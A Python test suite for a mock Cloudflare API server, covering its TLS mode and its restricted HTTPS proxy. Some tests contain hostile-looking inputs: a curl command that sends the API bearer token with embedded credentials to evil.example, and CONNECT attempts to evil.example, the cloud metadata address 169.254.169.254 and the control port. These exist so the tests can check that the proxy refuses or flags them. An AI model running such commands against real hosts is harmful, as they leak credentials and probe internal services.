#!/usr/bin/python3
"""--tls and --proxy as their users meet them: real clients, one with its host built in, and what the proxy must never do."""
import base64
import contextlib
import json
import os
import shutil
import socket
import ssl
import stat
import subprocess
import tempfile
import threading
import time
import unittest

from cfmock_process import CFMOCK, NODE_CLIENT, PYTHON, PYTHON_CLOUDFLARE, SOURCE_DIR, Server, bare_environment, run

API = "https://api.cloudflare.com/client/v4"
LEXICON = [PYTHON, "-m", "lexicon", "cloudflare"] if shutil.which("lexicon") is None else ["/usr/bin/lexicon", "cloudflare"]
SCENARIO = """cfmock: 1
name: scenario
title: A test's own
cause: none
world: one-zone
credentials: {primary: {token: {permissions: [Zone Read, DNS Write]}}}
"""
REQUESTS = "import os, requests; print(requests.get(%r, headers={'Authorization': 'Bearer ' + os.environ['CLOUDFLARE_API_TOKEN']}).status_code)"
UNDICI = ("const {EnvHttpProxyAgent, setGlobalDispatcher, fetch} = require('undici'); setGlobalDispatcher(new EnvHttpProxyAgent());"
          "fetch('%s/zones', {headers: {Authorization: `Bearer ${process.env.CLOUDFLARE_API_TOKEN}`}})"
          ".then(r => console.log(r.status), e => console.log(e.cause?.message ?? e.message))")


def port_of(url):
    return int(url.rsplit(":", 1)[1].split("/")[0])


def trusting(ca):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2", "http/1.1"])
    return context


def hello(server, name, **more):
    """The certificate and protocol that a client is given."""
    with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
        with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname=name, **more) as tls:
            names = [value for _, value in tls.getpeercert()["subjectAltName"]]
            return names, tls.selected_alpn_protocol()


def pour(flooder):
    """Requests without end, until nobody takes them."""
    requests = b"GET /client/v4/zones HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200
    try:
        while True:
            flooder.stdin.write(requests)
    except (OSError, ValueError):
        pass


def connect(server, target, user=None, rest=b""):
    """A CONNECT, and the socket with the head of its answer."""
    proxy = server.env.get("HTTPS_PROXY") or server.env["HTTPS_PROXY_EXPIRED_TOKEN"]
    plain = socket.create_connection(("127.0.0.1", port_of(proxy)), 10)
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
    if user is not None:
        head += "Proxy-Authorization: Basic " + base64.b64encode(f"{user}:".encode()).decode() + "\r\n"
    plain.sendall(head.encode() + b"\r\n" + rest)
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = plain.recv(1)
        if not piece:
            break
        answer += piece
    return plain, answer.decode()


class Tls(unittest.TestCase):
    def test_clients_find_it_and_trust_it(self):
        with Server(SCENARIO, "--tls") as server:
            self.assertTrue(server.env["CLOUDFLARE_BASE_URL"].startswith("https://127.0.0.1:"))
            curl = server.client(["sh", "-c", 'curl -sS -o /dev/null -w %{http_code} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "$CLOUDFLARE_BASE_URL/zones"'])
            self.assertEqual((curl.stdout, curl.stderr), ("200", ""))
            self.assertEqual(server.outcome(NODE_CLIENT, "zones"), {"done": {"zones": ["example.com"]}})
            self.assertEqual(server.outcome(PYTHON_CLOUDFLARE, "zones"), {"done": {"zones": ["example.com"]}})
            self.assertEqual(set(server.calls()), {"GET /zones 200"})

    def test_a_certificate_for_each_name(self):
        with Server(SCENARIO, "--tls", "--tls-name", "cfmock.test") as server:
            for name in ("api.cloudflare.com", "localhost", "cfmock.test"):
                self.assertEqual(hello(server, name), ([name], "http/1.1"))
            self.assertEqual(hello(server, "127.0.0.1")[0][0], "127.0.0.1")
            with self.assertRaisesRegex(ssl.SSLError, "unrecognized name|UNRECOGNIZED_NAME"):
                hello(server, "example.com")

    def test_openssl_verifies(self):
        with Server(SCENARIO, "--tls") as server:
            shown = subprocess.run(["openssl", "s_client", "-connect", server.env["CFMOCK_ORIGIN"].removeprefix("https://"), "-servername", "api.cloudflare.com",
                                    "-verify_hostname", "api.cloudflare.com", "-verify_return_error", "-brief", "-CAfile", server.env["CFMOCK_CA"]],
                                   input="", capture_output=True, text=True, timeout=30, check=False)
            self.assertEqual(shown.returncode, 0, shown.stderr)
            self.assertIn("Verification: OK", shown.stderr)

    def test_plain_http_is_told_so(self):
        with Server(SCENARIO, "--tls") as server:
            with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
                plain.sendall(b"GET /client/v4/zones HTTP/1.1\r\nHost: x\r\n\r\n")
                answer = b"".join(iter(lambda: plain.recv(4096), b"")).decode()
            self.assertTrue(answer.startswith("HTTP/1.1 400 "), answer)
            self.assertIn("use https://", answer)

    def test_a_client_that_does_not_trust_it_is_told_in_the_verdict(self):
        done = run("run", "expired-token", "--tls", "--", "sh", "-c", 'env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS "$CLOUDFLARE_BASE_URL/zones"')
        self.assertEqual(done.returncode, 5, done.stdout + done.stderr)
        self.assertIn("a TLS handshake failed", done.stdout)
        self.assertIn("cfmock ca", done.stdout)

    def test_the_ca_is_kept_and_its_key_hidden(self):
        with tempfile.TemporaryDirectory() as folder:
            ca = os.path.join(folder, "ca")
            lines = run("ca", "--ca-dir", ca)
            self.assertEqual(lines.returncode, 0, lines.stderr)
            self.assertIn(f"export CURL_CA_BUNDLE={ca}/ca.pem", lines.stdout)
            for who in ("# curl", "Python", "# Node", "Go", "# Java", "# OpenSSL"):
                self.assertIn(who, lines.stdout)
            self.assertEqual(subprocess.run(["sh", "-n"], input=lines.stdout, text=True, check=False).returncode, 0)
            self.assertEqual(stat.S_IMODE(os.stat(os.path.join(ca, "ca-key.pem")).st_mode), 0o600)
            pem = run("ca", "--ca-dir", ca, "--pem").stdout
            with open(os.path.join(ca, "ca.pem"), encoding="utf-8") as kept:
                self.assertEqual(pem, kept.read())
            with Server(SCENARIO, "--tls", "--ca-dir", ca) as server:
                self.assertEqual(server.env["CFMOCK_CA"], os.path.join(ca, "ca.pem"))
                self.assertEqual(hello(server, "localhost")[0], ["localhost"])
                got = server.client(["sh", "-c", 'curl -sS "$CFMOCK_CONTROL/ca"'])
                self.assertEqual(got.stdout, pem)

    def test_options_that_mean_nothing_alone(self):
        for words in (["--ca-dir", "x"], ["--tls-name", "x"], ["--proxy-port", "1"]):
            done = run("serve", "expired-token", *words)
            self.assertEqual(done.returncode, 2, words)
            self.assertIn(words[0], done.stderr)
        self.assertEqual(run("ca").returncode, 2)


    def test_a_client_that_never_pauses_holds_nobody_up(self):
        with Server(SCENARIO, "--tls") as server:
            flooder = subprocess.Popen(["openssl", "s_client", "-quiet", "-connect", server.env["CFMOCK_ORIGIN"].removeprefix("https://"), "-CAfile", server.env["CFMOCK_CA"]],
                                       stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            flood = threading.Thread(target=pour, args=(flooder,))
            flood.start()
            try:
                for _ in range(3):
                    begun = time.monotonic()
                    self.assertEqual(hello(server, "localhost")[0], ["localhost"])
                    self.assertLess(time.monotonic() - begun, 5)
                server.process.terminate()
                server.process.wait(10)
            finally:
                flooder.kill()
                flood.join()
                flooder.wait()
                with contextlib.suppress(OSError):
                    flooder.stdin.close()

    def test_no_session_is_resumed(self):
        with Server(SCENARIO.replace("credentials:", "handshakes: [good, expired-certificate]\ncredentials:"), "--tls") as server:
            context = trusting(server.env["CFMOCK_CA"])
            address = ("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"]))
            with context.wrap_socket(socket.create_connection(address, 10), server_hostname="localhost") as tls:
                tls.sendall(b"GET /client/v4/zones HTTP/1.1\r\nHost: localhost\r\n\r\n")
                tls.recv(65536)
                session = tls.session
            with self.assertRaisesRegex(ssl.SSLError, "certificate has expired"):
                context.wrap_socket(socket.create_connection(address, 10), server_hostname="localhost", session=session)

    def test_a_name_may_stand_before_the_scenario(self):
        done = run("run", "--tls", "--tls-name", "cfmock.test", "expired-token", "--", "true")
        self.assertIn("expired-token: The token's expires_on has passed", done.stdout)
        for name in ("", "a,permitted;DNS:com", "*.test", "mock:8443", "https://mock"):
            done = run("serve", "expired-token", "--tls", "--tls-name", name)
            self.assertEqual(done.returncode, 2, name)
            self.assertIn("--tls-name takes a host name", done.stderr)

    def test_every_address(self):
        for host, at in (("0.0.0.0", "127.0.0.1"), ("::", "127.0.0.1"), ("::", "::1")):
            with Server(SCENARIO, "--tls", "--host", host) as server:
                self.assertTrue(server.env["CFMOCK_ORIGIN"].startswith("https://127.0.0.1:"))
                with socket.create_connection((at, port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
                    with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname=at) as tls:
                        self.assertIn(("IP Address", "127.0.0.1"), tls.getpeercert()["subjectAltName"])

    def test_every_method_of_plain_http_is_told_so(self):
        with Server(SCENARIO, "--tls") as server:
            for method in ("PATCH", "DELETE", "OPTIONS"):
                with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
                    plain.sendall(f"{method} /client/v4/zones HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                    self.assertIn(b"use https://", b"".join(iter(lambda: plain.recv(4096), b"")))

    def test_a_client_that_speaks_http_2_alone_is_told_by_an_alert(self):
        with Server(SCENARIO, "--tls") as server:
            context = ssl.create_default_context(cafile=server.env["CFMOCK_CA"])
            context.set_alpn_protocols(["h2"])
            with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
                with self.assertRaisesRegex(ssl.SSLError, "(?i)no.application.protocol"):
                    context.wrap_socket(plain, server_hostname="localhost")


class Proxy(unittest.TestCase):
    def test_clients_with_the_host_built_in(self):
        with Server(SCENARIO, "--proxy") as server:
            self.assertEqual(server.env["CLOUDFLARE_BASE_URL"], API)
            curl = server.client(["sh", "-c", f'curl -sS -o /dev/null -w %{{http_code}} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" {API}/zones'])
            self.assertEqual((curl.stdout, curl.stderr), ("200", ""))
            requests = server.client([PYTHON, "-c", REQUESTS % f"{API}/zones"])
            self.assertEqual(requests.stdout, "200\n", requests.stderr)
            undici = server.client(["node", "-e", UNDICI % API], NODE_PATH=os.path.join(SOURCE_DIR, "tests/node/node_modules"))
            self.assertEqual(undici.stdout, "200\n", undici.stderr)
            self.assertEqual(server.calls(), ["GET /zones 200"] * 3)
            hosts = [value for row in server.journal() for name, value in row["headers"] if name.lower() == "host"]
            self.assertEqual(hosts, ["api.cloudflare.com"] * 3)

    def test_lexicon_unchanged(self):
        with Server(SCENARIO, "--proxy") as server:
            listed = server.client(["sh", "-c", 'exec "$@" --auth-token "$CLOUDFLARE_API_TOKEN" list example.com A', "sh", *LEXICON])
            self.assertEqual(listed.returncode, 0, listed.stderr)
            self.assertIn("www.example.com", listed.stdout)
            self.assertEqual(server.calls()[0], "GET /zones 200")

    def test_lexicon_is_judged(self):
        client = ["sh", "-c", 'exec "$@" --auth-token "$CLOUDFLARE_API_TOKEN" list example.com A', "sh", *LEXICON]
        done = run("run", "expired-token", "--proxy", "--", *client)
        self.assertIn("GET /zones?name=example.com&status=active -> 403 9109", done.stdout)
        self.assertEqual(done.returncode, 4, done.stdout)  # it ends in a traceback, and does not name the code

    def test_it_reaches_nothing_else(self):
        with Server(SCENARIO, "--proxy") as server:
            control = port_of(server.env["CFMOCK_CONTROL"])
            for target in ("example.com:443", f"127.0.0.1:{control}", f"localhost:{control}", "api.cloudflare.com:80", "api.cloudflare.com.evil.example:443", "169.254.169.254:80"):
                plain, answer = connect(server, target)
                plain.close()
                self.assertTrue(answer.startswith("HTTP/1.1 403 "), (target, answer))
            plain = socket.create_connection(("127.0.0.1", port_of(server.env["HTTPS_PROXY"])), 10)
            with plain:
                plain.sendall(f"GET http://127.0.0.1:{control}/sessions HTTP/1.1\r\nHost: 127.0.0.1:{control}\r\n\r\n".encode())
                answer = b"".join(iter(lambda: plain.recv(4096), b"")).decode()
            self.assertTrue(answer.startswith("HTTP/1.1 403 "), answer)
            self.assertIn("reaches nothing but cfmock", answer)
            rows = server.journal()
            self.assertEqual({row["cause"] for row in rows}, {"foreign-host"})
            self.assertEqual(rows[0]["method"], "CONNECT")

    def test_a_url_in_the_query_is_no_host(self):
        with Server(SCENARIO, "--proxy") as server:
            for path, status in (("zones?name=http://example.com/", 200), ("nonsense?u=https://api.cloudflare.com/client/v4/zones", 400)):
                got = server.client(["sh", "-c", f'curl -sS -o /dev/null -w %{{http_code}} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "{API}/{path}"'])
                self.assertEqual(got.stdout, str(status), path)
            self.assertNotIn("foreign-host", [row.get("cause") for row in server.journal()])

    def test_a_credential_for_another_host_is_a_leak(self):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(SCENARIO + "allow: [other_hosts, no_requests]\n")
            steps = 'curl -sS -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://bob:hunter2@evil.example/a'
            client = os.path.join(folder, "client.sh")
            with open(client, "w", encoding="utf-8") as out:
                out.write(steps)
            done = run("run", path, "--proxy", "--json", os.path.join(folder, "out.json"), "--", "sh", client)
            self.assertEqual(done.returncode, 4, done.stdout)
            self.assertIn("credential sent to another host", done.stdout)
            with open(os.path.join(folder, "out.json"), encoding="utf-8") as report:
                self.assertNotIn("hunter2", report.read())

    def test_only_another_host_is_no_request(self):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(SCENARIO + "allow: other_hosts\n")
            done = run("run", path, "--proxy", "--", "sh", "-c", "curl -sS http://telemetry.example.com/; true")
            self.assertEqual(done.returncode, 5, done.stdout)

    def test_the_environment_leaves_the_control_api_alone(self):
        with Server(SCENARIO, "--proxy") as server:
            got = server.client(["sh", "-c", 'curl -sS "$CFMOCK_CONTROL/ca"'], NO_PROXY=server.env["NO_PROXY"])
            self.assertTrue(got.stdout.startswith("-----BEGIN CERTIFICATE-----"), got.stdout + got.stderr)
            self.assertTrue(server.env["CFMOCK_ADDRESS"].startswith("http://127.0.0.1:"))

    def test_a_user_that_cannot_be_read_is_nobody(self):
        with Server(SCENARIO, "--proxy") as server:
            with socket.create_connection(("127.0.0.1", port_of(server.env["HTTPS_PROXY"])), 10) as plain:
                plain.sendall(b"CONNECT api.cloudflare.com:443 HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Bearer abc\r\n\r\n")
                self.assertIn(b"HTTP/1.1 407", plain.recv(4096))

    def test_openssl_through_the_proxy(self):
        with Server(SCENARIO, "--proxy") as server:
            shown = subprocess.run(["openssl", "s_client", "-proxy", f"127.0.0.1:{port_of(server.env['HTTPS_PROXY'])}", "-connect", "api.cloudflare.com:443",
                                    "-verify_hostname", "api.cloudflare.com", "-verify_return_error", "-brief", "-CAfile", server.env["CFMOCK_CA"]],
                                   input="", capture_output=True, text=True, timeout=30, check=False)
            self.assertIn("Verification: OK", shown.stderr)

    def test_a_connect_inside_a_tunnel_is_for_another_host(self):
        with Server(SCENARIO, "--proxy") as server:
            plain, _ = connect(server, "api.cloudflare.com:443")
            with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname="api.cloudflare.com") as tls:
                tls.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
                self.assertIn(b"HTTP/1.1 403", tls.recv(65536))
            self.assertEqual(server.journal()[-1]["cause"], "foreign-host")

    def test_another_host_fails_the_run(self):
        steps = 'curl -sS -o /dev/null -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "$CLOUDFLARE_BASE_URL/zones"; curl -s https://telemetry.example.com/; exit 1'
        done = run("run", "expired-token", "--proxy", "--", "sh", "-c", steps)
        self.assertEqual(done.returncode, 4, done.stdout)
        self.assertIn("no connection goes to another host", done.stdout)
        self.assertIn("telemetry.example.com:443", done.stdout)
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(SCENARIO + "allow: other_hosts\n")
            done = run("run", path, "--proxy", "--", "sh", "-c", steps)
            self.assertEqual(done.returncode, 0, done.stdout)

    def test_sessions_by_proxy_user(self):
        with Server("expired-token", "no-dns-permission", "--proxy") as server:
            for user, code in (("expired-token", "200"), ("no-dns-permission", "200"), ("nobody", "407"), (None, "407")):
                plain, answer = connect(server, "api.cloudflare.com:443", user)
                plain.close()
                self.assertEqual(answer.split(" ")[1], code, answer)
                if code == "407":
                    self.assertIn("Proxy-Authenticate: Basic", answer)

    def test_a_tunnel_ends_in_its_own_session(self):
        with Server("expired-token", "no-dns-permission", "--proxy") as server:
            plain, _ = connect(server, "api.cloudflare.com:443", "expired-token")
            other = server.env["CLOUDFLARE_API_TOKEN_NO_DNS_PERMISSION"]
            with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname="api.cloudflare.com") as tls:
                for target in ("/client/v4/user/tokens/verify", "/_s/no-dns-permission/client/v4/user/tokens/verify"):
                    tls.sendall(f"GET {target} HTTP/1.1\r\nHost: api.cloudflare.com\r\nAuthorization: Bearer {other}\r\n\r\n".encode())
                    answer = tls.recv(65536).decode()
                    self.assertNotIn("200 OK", answer)
            self.assertEqual({row["session"] for row in server.journal()}, {"expired-token"})

    def test_a_hello_right_behind_the_connect(self):
        """A client need not wait for the 200."""
        with Server(SCENARIO, "--proxy") as server:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = trusting(server.env["CFMOCK_CA"]).wrap_bio(incoming, outgoing, server_hostname="api.cloudflare.com")
            with self.assertRaises(ssl.SSLWantReadError):
                tls.do_handshake()
            plain, answer = connect(server, "api.cloudflare.com:443", rest=outgoing.read())
            self.assertIn("200", answer)
            with plain:
                for _ in range(20):
                    try:
                        tls.do_handshake()
                        break
                    except ssl.SSLWantReadError:
                        incoming.write(plain.recv(65536))
                self.assertEqual(tls.getpeercert()["subjectAltName"], (("DNS", "api.cloudflare.com"),))

    def test_absolute_form(self):
        with Server(SCENARIO, "--proxy") as server:
            got = server.client(["sh", "-c", 'curl -sS -o /dev/null -w %{http_code} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://api.cloudflare.com/client/v4/zones'])
            self.assertEqual(got.stdout, "200", got.stderr)
            self.assertEqual(server.calls(), ["GET /zones 200"])
            self.assertEqual(server.journal()[0]["leaks"], ["credential sent in clear text, to http://api.cloudflare.com"])

    def test_older_versions_of_tls_are_refused(self):
        with Server(SCENARIO, "--tls") as server:
            for version in ("1.0", "1.1"):
                got = server.client(["sh", "-c", f'curl -sS --tlsv{version} --tls-max {version} --ciphers DEFAULT@SECLEVEL=0 "$CFMOCK_ORIGIN/client/v4/zones"'])
                self.assertEqual(got.returncode, 35, got.stderr)
                self.assertIn("protocol version", got.stderr)


class Handshakes(unittest.TestCase):
    CLIENT = 'curl -sS -o /dev/null -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "$CLOUDFLARE_BASE_URL/zones"'

    def met(self, name, *more, client=CLIENT):
        return run("run", name, *more, "--", "sh", "-c", client)

    def test_what_curl_says(self):
        for name, words in (("expired-certificate", "certificate has expired"), ("wrong-name-certificate", "does not match|no alternative certificate subject name"),
                            ("handshake-failure", "handshake failure")):
            for way in ([], ["--proxy"]):
                done = self.met(name, *way, client=f"{self.CLIENT} 2>&1; exit 1")
                self.assertEqual(done.returncode, 0, done.stdout)
                shown = self.met(name, *way, "--show", client=self.CLIENT)
                self.assertRegex(shown.stdout + shown.stderr, words)

    def test_a_client_that_looks_away_is_caught(self):
        for name in ("expired-certificate", "wrong-name-certificate"):
            done = self.met(name, client=self.CLIENT.replace("curl", "curl -k"))
            self.assertEqual(done.returncode, 4, done.stdout)

    def test_a_client_that_meets_none_has_not_passed(self):
        for name in ("expired-certificate", "wrong-name-certificate", "handshake-failure"):
            done = run("run", name, "--", "false")
            self.assertEqual(done.returncode, 5, done.stdout)
            self.assertIn("no connection met a broken handshake", done.stdout)
        done = self.met("expired-certificate", client="env -u CURL_CA_BUNDLE -u SSL_CERT_FILE " + self.CLIENT)
        self.assertEqual(done.returncode, 5, done.stdout)
        self.assertIn("does not trust the CA", done.stdout)

    def test_the_journal_has_them(self):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "journal.jsonl")
            done = self.met("expired-certificate", "--journal", path)
            self.assertEqual(done.returncode, 0, done.stdout)
            with open(path, encoding="utf-8") as lines:
                rows = [json.loads(line) for line in lines]
            rows = [row for row in rows if row["kind"] == "handshake"]
            self.assertEqual([row["shown"] for row in rows], ["expired-certificate"])
            self.assertIn("certificate expired", rows[0]["problem"])
            self.assertEqual(run("report", path, "expired-certificate").returncode, 0)

    def test_the_alert_on_the_wire(self):
        with Server("handshake-failure", "--tls") as server:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = trusting(server.env["CFMOCK_CA"]).wrap_bio(incoming, outgoing, server_hostname="localhost")
            with self.assertRaises(ssl.SSLWantReadError):
                tls.do_handshake()
            with socket.create_connection(("127.0.0.1", port_of(server.env["CFMOCK_ORIGIN"])), 10) as plain:
                plain.sendall(outgoing.read())
                self.assertEqual(b"".join(iter(lambda: plain.recv(4096), b"")), b"\x15\x03\x03\x00\x02\x02\x28")

    def test_several_sessions_need_the_proxy(self):
        done = run("serve", "expired-token", "expired-certificate", "--tls")
        self.assertEqual(done.returncode, 2)
        self.assertIn("give --proxy", done.stderr)

    def test_serve_needs_tls(self):
        done = run("serve", "expired-certificate")
        self.assertEqual(done.returncode, 2)
        self.assertIn("give --tls or --proxy", done.stderr)


if __name__ == "__main__":
    unittest.main()
